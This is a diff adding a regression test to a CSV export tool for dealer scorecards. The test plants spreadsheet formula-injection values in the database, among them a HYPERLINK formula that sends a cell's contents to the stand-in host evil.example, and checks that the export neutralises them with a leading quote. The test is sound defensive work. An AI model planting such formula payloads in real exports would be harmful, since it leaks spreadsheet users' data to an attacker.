@@ -183,6 +183,13 @@ def test_cli_csv_and_table(t):
     b = t.bot(extra=NO_BREACH_POINTS)
     fixture(b)
     api = by_code(b.get("/api/v1/scorecards").json)
+    # a dealer whose name and region a spreadsheet would run as formulas
+    formula_name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    con = sqlite3.connect(os.path.join(b.dir, "dealerbot.db"), timeout=10)
+    with con:
+        con.execute("UPDATE dealers SET name = ?, region = ? WHERE code = 'D002'",
+                    (formula_name, "@SUM(1+1)"))
+    con.close()
 
     p_out = dbot.subprocess.run([dbot.BIN, "-c", b.conf, "scorecard", "--csv"], cwd=b.dir,
                                 capture_output=True, timeout=60)
@@ -210,6 +217,10 @@ def test_cli_csv_and_table(t):
     eq(d1["ack_p50_h"], "2.00", "hours")
     eq(d1["ack_compliance"], "50.0", "percent")
     eq(rec["D003"]["per_1000"], "", "unknown volume: empty")
+    # formula cells are neutralised (a leading single quote, the cell quoted); numbers are not
+    eq(rec["D002"]["name"], "'" + formula_name, "a formula name starts with a quote")
+    eq(rec["D002"]["region"], "'@SUM(1+1)", "a formula region starts with a quote")
+    check(b'"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in raw, "quoted, raw")
     eq(rec["D003"]["per_1000_rank"], "", "and no rank")
 
     _, out, _ = b.cli("scorecard", "--csv", "--dealer", "d001")
